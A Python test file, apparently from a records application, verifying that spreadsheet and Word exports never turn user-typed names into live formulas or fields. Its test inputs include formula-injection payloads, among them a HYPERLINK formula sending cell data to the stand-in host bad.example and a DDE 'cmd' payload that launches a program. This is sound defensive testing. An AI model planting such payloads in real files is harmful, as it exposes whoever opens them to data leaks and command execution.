"""Nothing that somebody typed leaves as a formula, in whatever file the program writes.

A name such as ``=HYPERLINK(…)`` would be run by the spreadsheet of whoever opens the file.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import openpyxl
import pytest

from engine.intake.marking import Mark, marked_copy
from engine.move import Proposal
from engine.propose import propose
from i18n.text import Text
from reports.papers.asked import Asked
from reports.papers.paper import write_paper
from reports.roster_file import What, roster_file
from storage.people import name_unit, officer, save_officer, unit
from tests.builders import NOW, SINCE, Ready, ready_database
from tests.conftest import Lantoa
from tests.papers import SMALL, opened, papers_plan, told
from tests.records import a_model
from tests.seed_plans import CHI_LANG, calendar, definition
from workflows.definition import PaperKind

LINK = '=HYPERLINK("http://bad.example/?"&A1,"Xem")'
HOSTILE = (LINK, "=cmd|' /C calc'!A0", "+84 912 000 345", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1")
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")
ROOT = Path(__file__).parents[2]


@dataclass(frozen=True)
class World:
    """A year whose units, officers and records bear such names, and the commands on it."""

    ready: Ready
    lantoa: Lantoa
    folder: Path


@pytest.fixture
def world(lantoa: Lantoa, tmp_path: Path) -> Iterator[World]:
    (tmp_path / "home").mkdir()
    url = f"sqlite:///{tmp_path / 'home' / 'lantoa.db'}"
    named = {f"xa-{at}": name for at, name in enumerate(HOSTILE)}
    plan, days = definition(CHI_LANG), calendar(CHI_LANG)
    ready = ready_database(url, plan=plan, calendar=days, units=[*named])
    for code, name in named.items():
        values = dict.fromkeys(("name", "registrant", "carried_out_by", "content"), name)
        propose(ready.db, Proposal(CHI_LANG, "model", code, values), ready.officer("thu"), NOW)
        called(ready, code, name)
    yield World(ready, lantoa, tmp_path)
    ready.db.close()


def called(ready: Ready, code: str, name: str) -> None:
    """A unit and its officer are called that."""
    of = ready.opened.plan.committee_id
    with ready.db.write() as work:
        known, lan = unit(work, of, code, SINCE), officer(work, of, f"lan-{code}")
        assert known is not None
        assert lan is not None
        name_unit(work, known.id, since=SINCE, vi=name, en=name)
        save_officer(
            work, of, code=f"lan-{code}", name=name, email=lan.email, phone=name, active=True
        )


def unit_lists(world: World) -> list[bytes]:
    out = world.folder / "lists"
    assert world.lantoa("unit", "lists", CHI_LANG, "--out", out).exit_code == 0
    return [file.read_bytes() for file in out.glob("*.xlsx")]


def call_list(world: World) -> list[bytes]:
    out = world.folder / "calls.xlsx"
    assert world.lantoa("plan", "due", "--call-list", out, "--all").exit_code == 0
    return [out.read_bytes()]


def rosters(world: World) -> list[bytes]:
    of = world.ready.opened.plan.committee_id
    both: tuple[What, What] = ("officers", "units")
    return [roster_file(world.ready.db, of, one, NOW, "vi", filled=True)[0] for one in both]


def marked(world: World) -> list[bytes]:
    """A unit's list that came back with formulas typed into it, some of them already worked out."""
    book = openpyxl.load_workbook(io.BytesIO(unit_lists(world)[0]))
    sheet = book.worksheets[0]
    sheet["J20"], sheet["J21"] = LINK, "=1+1"
    book.create_sheet("Khác")["A1"] = LINK
    typed = io.BytesIO()
    book.save(typed)
    marks = [Mark(20, 3, f"{LINK}: không nhận công thức"), Mark(21, 3, LINK)]
    file = world.folder / "lists" / "gui-ve.xlsx"
    return [marked_copy(file, typed.getvalue(), 12, marks, "vi").read_bytes()]


WRITERS: Final[Mapping[str, Callable[[World], list[bytes]]]] = {
    "engine/intake/list_sheet.py": unit_lists,
    "engine/intake/marking.py": marked,
    "reports/call_list.py": call_list,
    "reports/roster_file.py": rosters,
}
"""Every module that writes tables for a spreadsheet, with what makes it write all it can."""

WRITES = re.compile(
    r"xlsxwriter\.Workbook\(|\bload_workbook\(|openpyxl\.Workbook\(|csv\.(?:Dict)?[wW]riter\("
)


def test_every_module_that_writes_a_table_is_walked_here() -> None:
    """001-26: whoever adds one adds it to WRITERS."""
    places = ("cli.py", "commands", "web", "reports", "engine", "notifications", "storage")
    files = [file for one in places for file in (ROOT / one).rglob("*.py")]
    files += [*(ROOT / "workflows").rglob("*.py"), ROOT / "cli.py"]
    writing = {
        file.relative_to(ROOT).as_posix()
        for file in files
        if WRITES.search(file.read_text(encoding="utf-8"))
    }
    assert writing == set(WRITERS)


def test_no_table_holds_a_formula(world: World) -> None:
    """001-26"""
    for module, write in WRITERS.items():
        files = write(world)
        for content in files:
            assert formulas(content) == [], module
        seen = {text for content in files for text in kept_texts(module, content)}
        came = {name for name in HOSTILE if any(name.strip() in text for text in seen)}
        assert came == set(HOSTILE) or write is marked, module  # they did come as far as the file
        assert seen, module


def formulas(content: bytes) -> list[str]:
    """Cells that are computed; the ranges of choices stand in rules of their own."""
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        sheets = [one for one in packed.namelist() if one.startswith("xl/worksheets/sheet")]
        outside = [one for one in packed.namelist() if "externalLink" in one]
        found = [cell for one in sheets for cell in re.findall(rb"<f[ >].*?</f>", packed.read(one))]
    return [*outside, *(cell.decode() for cell in found)]


def kept_texts(module: str, content: bytes) -> Iterator[str]:
    """The texts that look like formulas, each of which stays a text when it is edited."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            if isinstance(cell.value, str) and cell.value.startswith(SIGNS):
                yield cell.value
                locked = sheet.protection.sheet and cell.protection.locked
                kept = cell.number_format == "@" or cell.quotePrefix or locked
                assert cell.data_type == "s", (module, cell.coordinate)
                assert kept, (module, cell.coordinate)


@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: repr(name)[1:8])
def test_no_paper_of_word_computes_what_somebody_typed(name: str) -> None:
    """001-26: a table of Word computes by fields, so there is none but the number of a page."""
    ready = ready_database(plan=papers_plan())
    made = a_model(ready, form={"name": name, "sector": "village"})
    called(ready, "xa-a", name)
    for kind in (PaperKind.LIST, PaperKind.DOSSIER, PaperKind.URGING, PaperKind.PLAN):
        asked = Asked(kind, SMALL, record=made if kind is PaperKind.DOSSIER else None)
        paper = write_paper(ready.db, asked, NOW).content
        fields = opened(paper).element.body.xpath(".//w:instrText | .//w:fldSimple")
        assert fields == []
        if kind is not PaperKind.PLAN:
            assert name.strip() in told(paper)
    ready.db.close()


def test_choices_stand_whole_whatever_their_words_hold() -> None:
    """A rule's own words would be cut at each comma and end at each quote."""
    plan = definition(CHI_LANG)
    kinds = plan.model_copy(
        update={"unit_kinds": plan.unit_kinds | {"dang_bo": Text(vi='Xã, "thị" trấn', en="x")}}
    )
    ready = ready_database(plan=kinds, calendar=calendar(CHI_LANG), units=("xa-a",))
    of = ready.opened.plan.committee_id
    content, _ = roster_file(ready.db, of, "units", NOW, "vi", filled=True)
    ready.db.close()
    book = openpyxl.load_workbook(io.BytesIO(content))
    (rule,) = book.worksheets[0].data_validations.dataValidation
    picked = [row[0].value for row in book["lantoa"][str(rule.formula1).partition("!")[2]]]
    assert picked == [label.vi for label in kinds.unit_kinds.values()]
    assert book["lantoa"].sheet_state == "veryHidden"
